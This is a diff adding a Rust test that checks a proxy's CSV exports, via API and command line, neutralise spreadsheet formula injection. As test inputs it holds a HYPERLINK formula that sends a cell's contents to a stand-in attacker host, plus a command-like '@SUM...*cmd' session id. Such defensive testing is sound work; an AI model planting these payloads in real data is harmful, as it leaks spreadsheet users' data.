@@ -1214,3 +1214,64 @@ fn the_store_section_is_read_and_checked() {
         Path::new("/data/kimi-proxy.db")
     );
 }
+
+/// What a client plants (its last message becomes the preview, its session id is stored) must not run as a
+/// formula when an export is opened in a spreadsheet: through the API and through the command line.
+#[tokio::test]
+async fn csv_exports_neutralise_formulas() {
+    let (_mock, proxy) = setup("").await;
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    chat(
+        &proxy,
+        json!([user(formula)]),
+        &[("x-session-id", "@SUM(1+1)*cmd")],
+    )
+    .await;
+    chat(&proxy, json!([user("+1-1")]), &[("x-session-id", "-2+3")]).await;
+    wait_written(&proxy, 2).await;
+    let check = |csv: &str| {
+        for line in csv.lines().skip(1) {
+            // Split the simple way: a neutralised cell is quoted and starts with `'`.
+            for cell in line.split(',') {
+                let bare = cell.trim_start_matches('"');
+                assert!(
+                    !bare.starts_with(['=', '+', '-', '@', '\t']),
+                    "a cell starts a formula: {cell:?} in {line}"
+                );
+            }
+        }
+    };
+    let csv = client()
+        .get(proxy.url("/api/export?format=csv"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    check(&csv);
+    assert!(csv.contains("\"'=HYPERLINK"), "{csv}");
+    assert!(csv.contains("\"'@SUM(1+1)*cmd\""), "{csv}");
+    let (_, list) = get(&proxy, "/api/sessions").await;
+    for session in list["data"].as_array().unwrap() {
+        let id = session["id"].as_i64().unwrap();
+        let output = std::process::Command::new(common::BIN)
+            .args([
+                "sessions",
+                "export",
+                &id.to_string(),
+                "--format",
+                "csv",
+                "--db",
+            ])
+            .arg(proxy.db_path())
+            .env_clear()
+            .output()
+            .unwrap();
+        assert!(output.status.success());
+        let csv = String::from_utf8(output.stdout).unwrap();
+        assert!(csv.lines().count() >= 2, "{csv}");
+        check(&csv);
+    }
+}
+
